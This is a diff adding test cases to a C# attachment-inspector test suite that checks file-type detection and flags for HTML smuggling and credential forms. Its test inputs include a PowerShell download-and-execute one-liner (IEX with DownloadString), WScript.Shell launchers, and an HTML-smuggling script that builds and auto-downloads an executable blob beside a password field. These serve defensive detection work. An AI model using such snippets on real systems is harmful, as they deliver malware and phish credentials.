@@ -78,6 +78,16 @@ public class AttachmentInspectorTests
         { TestFiles.Text("var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"), "application/javascript" },
         { TestFiles.Text("Set o = CreateObject(\"WScript.Shell\")\nDim x\n"), "text/vbscript" },
         { TestFiles.Text("Please let me know which function works for you."), "text/plain" },
+
+        // Markers in any case, in ASCII text (searched ignoring case) and in text with other characters (lower-cased first).
+        { TestFiles.Text("  <!DOCTYPE HTML><HTML><BODY>Caf\u00e9</BODY></HTML>"), "text/html" },
+        { TestFiles.Text("<?XML version=\"1.0\"?>\n<SVG xmlns=\"http://www.w3.org/2000/svg\"></SVG>"), "image/svg+xml" },
+        { TestFiles.Text("Set o = CREATEOBJECT(\"WScript.Shell\")\nDIM x ' na\u00efve\n"), "text/vbscript" },
+        { TestFiles.Text("$ENV:TEMP; IEX (New-Object Net.WebClient).DownloadString('http://x')"), "text/x-powershell" },
+
+        // Mail headers count at the start of the first 20 lines, the 20th standing for the rest of the text.
+        { TestFiles.Text(string.Concat(Enumerable.Repeat("x\n", 18)) + "From: a@example.com\nSubject: hi\n"), "message/rfc822" },
+        { TestFiles.Text(string.Concat(Enumerable.Repeat("x\n", 19)) + "From: a@example.com\nSubject: hi\n"), "text/plain" },
         { [0x00, 0x01, 0x02, 0x03, 0xFE], "application/octet-stream" },
     };
 
@@ -249,6 +259,21 @@ public class AttachmentInspectorTests
 
         Codes(report).ShouldContain("attachment.html-smuggling");
         Codes(report).ShouldContain("attachment.html");
+    }
+
+    [Theory]
+    [InlineData("")]
+    [InlineData(" <!-- caf\u00e9 -->")]
+    public void SmugglingCodeIsFoundInAnyCase(string tail)
+    {
+        string html = "<HTML><BODY><SCRIPT>var b = ATOB(\"TVqQ\"); var u = new UINT8ARRAY(b.length);"
+            + " var a = document.createElement('a'); a.href = URL.CREATEOBJECTURL(new BLOB([u])); a.click();</SCRIPT>"
+            + "<FORM><INPUT TYPE=password></FORM></BODY></HTML>" + tail;
+
+        AttachmentReport report = Inspect("invoice.html", "text/html", TestFiles.Text(html));
+
+        Codes(report).ShouldContain("attachment.html-smuggling");
+        Codes(report).ShouldContain("attachment.credential-form");
     }
 
     [Fact]
